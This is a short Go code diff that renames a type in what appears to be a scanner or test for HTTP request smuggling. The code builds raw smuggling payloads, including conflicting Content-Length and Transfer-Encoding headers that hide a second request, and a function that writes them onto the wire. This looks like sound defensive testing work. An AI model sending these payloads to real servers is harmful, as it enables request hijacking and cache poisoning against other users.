@@ -15,8 +15,8 @@ func smuggled(id string) string {
 	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-Request-ID: %s\r\nX-Smuggled: 1\r\nContent-Length: %d\r\n\r\n%s", chat, id, len(body), body)
 }
 
-// probe is what an attacker sends on one connection.
-type probe struct {
+// smuggling is what an attacker sends on one connection.
+type smuggling struct {
 	name  string
 	head  string // header lines beside Host and Content-Type, each ended
 	body  string // SMUGGLED stands for the hidden request
@@ -31,7 +31,7 @@ func chunked(rest string) string {
 	return fmt.Sprintf("%x\r\n%s\r\n%s", len(body), body, rest)
 }
 
-var probes = []probe{
+var probes = []smuggling{
 	{name: "CL and TE", head: "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", body: "0\r\n\r\nSMUGGLED"},
 	{name: "TE and CL", head: "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", body: "0\r\n\r\nSMUGGLED"},
 	{name: "CL of the whole and TE", head: "Content-Length: 9999\r\nTransfer-Encoding: chunked\r\n", body: chunked("0\r\n\r\nSMUGGLED")},
@@ -79,7 +79,7 @@ var probes = []probe{
 }
 
 // payload is what goes on the wire.
-func (p *probe) payload(id string) string {
+func (p *smuggling) payload(id string) string {
 	head, rest := outerHead, p.head
 	if after, ok := strings.CutPrefix(rest, "HTTP10"); ok {
 		head, rest = strings.Replace(outerHead, "HTTP/1.1", "HTTP/1.0", 1), after
